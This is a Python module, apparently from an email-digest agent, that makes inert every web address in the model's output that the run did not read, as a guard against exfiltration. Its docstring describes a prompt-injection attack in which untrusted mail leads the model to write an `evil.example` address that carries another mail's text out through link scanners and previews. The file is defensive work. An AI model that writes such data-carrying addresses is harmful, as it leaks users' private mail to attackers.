"""Web addresses in what the model writes: kept when the run read them, else made inert.

Mail and documents are untrusted: an injected instruction can have the model write an
address that carries what the run read elsewhere (`https://evil.example/?d=<another
mail's text>`) into a digest, an alert or a question. Nobody needs to click it: mail
providers' link scanners and chat apps' link previews fetch the addresses in a message
as it arrives, so the email or webhook would send the data out by itself. An address
written exactly as the run read it, in a mail, a document or the user's answer, carries
nothing that was not already there: it is kept. Any other is made inert: its host with
bracketed dots, without its path, query or user info (`[link to evil[.]example]`), which
no scanner or preview fetches and no client makes a link of.

Not covered: a bare host name without a path ("secret.evil.example"), which some apps
would make a link of; telling it from a file name or a version number is guesswork.
"""

from __future__ import annotations

import re
from collections.abc import Collection

from app.agent.digest import DigestDraft

# No backslash: the run reads mail as JSON, where "\n" ends a line.
_IN = r"[^\s<>\"'`\\]"
_END = r"[^\s<>\"'`\\.,;:!?)\]}]"  # an address's last character: not the sentence's
_URL = re.compile(
    rf"(?:\b(?:https?|ftp)://|\bwww\.){_IN}*{_END}"
    # No scheme, but a path: "evil.example/collect?d=...". At most a DNS name's 253
    # characters before the "/", looked for first: unbounded, each start in a long run of
    # "a.a.a.…" read the run to its end, 8 s for 24,000 characters (quadratic).
    # A label is any word characters and hyphens: "_" ("x_evil.example/…", which
    # browsers and resolvers take) and letters of any script ("évil.example/…",
    # "пример.рф/…"), which linkifiers make links of; a label of ASCII letters only
    # would start no match after the "x_" or the "é" (no word boundary there), and the
    # whole address went out. The top-level label is letters, or punycode ("xn--p1ai").
    # A port may follow ("evil.example:8080/…").
    rf"|\b(?=[\w.-]{{1,253}}(?::\d{{1,5}})?/)(?:[\w-]+\.)+(?:xn--[a-z0-9-]+|[^\W\d_]{{2,}})"
    rf"(?::\d{{1,5}})?/{_IN}*{_END}",
    re.IGNORECASE,
)


def addresses_in(text: str) -> set[str]:
    """The web addresses in `text`, as written."""
    return {match[0] for match in _URL.finditer(text)}


def _host(address: str) -> str:
    rest = address.split("://", 1)[-1]
    host = re.split(r"[/?#\\]", rest, maxsplit=1)[0].rsplit("@", 1)[-1]
    if not host.startswith("["):  # not an IPv6 literal: drop the port
        host = host.split(":", 1)[0]
    return host.replace(".", "[.]") or "a site"


def inert(text: str, read: Collection[str]) -> str:
    """`text` with every address not in `read` (as the run read them) made inert."""

    def replace(match: re.Match[str]) -> str:
        return match[0] if match[0] in read else f"[link to {_host(match[0])}]"

    return _URL.sub(replace, text)


def inert_draft(draft: DigestDraft, read: Collection[str]) -> DigestDraft:
    """The model's digest with the addresses it wrote and the run never read made inert."""

    def text(value: str) -> str:
        return inert(value, read)

    def maybe(value: str | None) -> str | None:
        return None if value is None else text(value)

    return draft.model_copy(update={
        "summary": text(draft.summary),
        "sections": [section.model_copy(update={
            "title": text(section.title),
            "items": [item.model_copy(update={"title": text(item.title),
                                              "detail": text(item.detail)})
                      for item in section.items],
        }) for section in draft.sections],
        "action_items": [action.model_copy(update={
            "text": text(action.text), "owner": maybe(action.owner), "due": maybe(action.due),
        }) for action in draft.action_items],
        "notes": [text(note) for note in draft.notes],
    })
